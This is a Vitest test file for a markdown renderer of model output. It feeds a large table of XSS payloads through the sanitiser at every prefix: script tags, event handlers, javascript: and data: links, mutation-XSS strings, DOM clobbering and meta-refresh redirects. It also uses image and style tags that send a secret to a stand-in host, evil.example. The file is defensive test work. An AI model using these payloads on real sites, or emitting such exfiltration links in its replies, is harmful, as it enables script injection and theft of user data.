// Laws of what a model's text may become: at no prefix of a hostile text is there a node outside of the allow-list.
import { beforeAll, describe, expect, it } from 'vitest';

import { loadHighlighter, nodesOf } from '../../src/lib/markdown/highlight';
import { MarkdownView } from '../../src/lib/markdown/incremental';
import { newEnv, parser } from '../../src/lib/markdown/parser';
import { ALLOWED_ATTRIBUTES, ALLOWED_TAGS, sanitise } from '../../src/lib/markdown/policy';

beforeAll(() => loadHighlighter());

const SECRET = 'https://evil.example/?q=SECRET';
const HOSTILE: Record<string, string> = {
  script: '<script>window.__xss=1</script>\n\ntext <script src=//evil.example></script>',
  handlers: '<img src=x onerror=alert(1)> <b onmouseover=alert(1)>b</b> <details open ontoggle=alert(1)>',
  'javascript links': '[a](javascript:alert(1)) [b](JaVa&#x0A;script:alert(1)) [c](java\tscript:alert(1)) <javascript:alert(1)>',
  'other schemes': '[a](data:text/html,<script>1</script>) [b](vbscript:x) [c](file:///etc/passwd) [d](blob:x) [e](//evil.example)',
  'entity schemes': '[a](&#106;avascript:alert(1)) [b](javascript&colon;alert(1)) [c](\u0001javascript:alert(1)) [d]( javascript:1)',
  'addresses of this site': '[out](/logout/) [api](/api/x) [here](#x) [up](../admin/)',
  svg: '<svg onload=alert(1)><use href="data:x"/><foreignObject><b>x</b></foreignObject></svg>',
  frames: '<iframe srcdoc="<script>1</script>"></iframe><object data=x></object><embed src=x>',
  'attribute breakout': '[x](https://a.example/"onmouseover="alert(1) "t\\" onclick=\\"x") ![a" onerror="x](https://b.example/"x)',
  'fence info breakout': '```js" onclick="alert(1)\nx\n```\n~~~<img/src/onerror=x>\ny\n~~~',
  mutation: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'meta and base': '<meta http-equiv=refresh content="0;url=https://evil.example"><base href=https://evil.example/>',
  style: `<p style="background:url(${SECRET})">x</p><style>@import "${SECRET}"</style><link rel=stylesheet href=${SECRET}>`,
  'markdown image': `![a](${SECRET}) text`,
  'reference image': `![a][1] and ![1]\n\n[1]: ${SECRET}`,
  'image in a link': `[![a](${SECRET})](https://b.example) [![b](${SECRET}) c](https://d.example)`,
  'html image': `<img src="${SECRET}"> <picture><source srcset="${SECRET}"></picture>`,
  media: `<video src="${SECRET}" poster=x></video><audio src=x></audio><input type=image src=x>`,
  clobbering: '<form id=app><input name=attributes><a id=boot name=csrf>x</a></form>',
  'svg and mermaid fences': '```svg\n<svg onload=alert(1)></svg>\n```\n```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```',
  'forged placeholder': '<pre data-content="0"></pre>\n\n```js\nlet a;\n```\n<div class="code-block">x</div>',
  'table style': '|a|b|\n|:-|-:|\n|<img src=x>|[x](javascript:1)|',
  autofocus: '<input autofocus onfocus=alert(1)> <x tabindex=1 onfocus=alert(1)>',
  'link titles': '[a](https://a.example "<img src=x onerror=alert(1)>") https://b.example/<script>',
};

// The code block of our own making adds these.
const OWN_TAGS = ['DIV', 'SPAN', 'BUTTON'];
const tags = new Set([...ALLOWED_TAGS.map((tag) => tag.toUpperCase()), ...OWN_TAGS]);
const attributes = new Set([...ALLOWED_ATTRIBUTES, 'type', 'data-testid', 'tabindex', 'role', 'aria-label', 'aria-pressed']);

function check(root: Element, where: string): void {
  for (const node of Array.from(root.getElementsByTagName('*'))) {
    expect(tags.has(node.nodeName), `${where}: <${node.nodeName}>`).toBe(true);
    for (const { name, value } of Array.from(node.attributes)) {
      expect(attributes.has(name), `${where}: ${name}="${value}"`).toBe(true);
      if (name === 'href') expect(value, where).toMatch(/^(?:https?:\/\/|mailto:|tel:)/i);
    }
    if (node.nodeName === 'A' && node.hasAttribute('href')) {
      expect(node.getAttribute('rel'), where).toBe('noopener noreferrer nofollow');
      expect(node.getAttribute('target'), where).toBe('_blank');
    }
  }
}

describe.each(Object.entries(HOSTILE))('%s', (_name, text) => {
  it('is harmless at every prefix', () => {
    const root = document.createElement('div');
    const view = new MarkdownView(root);
    for (let end = 1; end <= text.length; end += 1) {
      view.update(text.slice(0, end));
      check(root, text.slice(0, end));
    }
    view.end(text);
    check(root, text);
  });

  it('is harmless as HTML too, if the parser ever let it through', () => {
    const root = document.createElement('div');
    root.append(sanitise(text));
    check(root, text);
  });
});

it('shows an image as a link that names its host', () => {
  const root = document.createElement('div');
  new MarkdownView(root).end(`![cat](${SECRET}) [![dog](${SECRET})](https://b.example)`);
  const links = Array.from(root.getElementsByTagName('a'));
  expect(links.map((link) => [link.textContent, link.dataset.host])).toEqual([
    ['Image: cat', 'evil.example'],
    ['Image: dog', 'b.example'],
  ]);
});

it('names the host of a link whose text does not', () => {
  const root = document.createElement('div');
  new MarkdownView(root).end('[bank](https://evil.example/x) https://plain.example/y [tel](tel:+123)');
  expect(Array.from(root.getElementsByTagName('a')).map((link) => link.dataset.host)).toEqual(['evil.example', undefined, undefined]);
});

it('colours code without ever parsing HTML', () => {
  const root = document.createElement('div');
  root.append(nodesOf('<span class="hljs-tag">&lt;img src=x onerror=<span class="a b">&quot;1&quot;</span>&gt;</span><img src=x>&unknown;'));
  expect(root.getElementsByTagName('img')).toHaveLength(0);
  expect(root.textContent).toBe('<img src=x onerror="1"><img src=x>&unknown;');
});

it('parses texts that were made to be slow', () => {
  const texts = ['[', '*a', '`', '![', '> ', '- ', '_*', '<', '[a](', '|a', '&', '~~~~\n', '**a*'];
  for (const piece of texts) {
    const text = piece.repeat(Math.ceil(50_000 / piece.length));
    const env = newEnv(text);
    expect(parser.renderer.render(parser.parse(text, env), parser.options, env).length).toBeGreaterThan(0);
  }
});
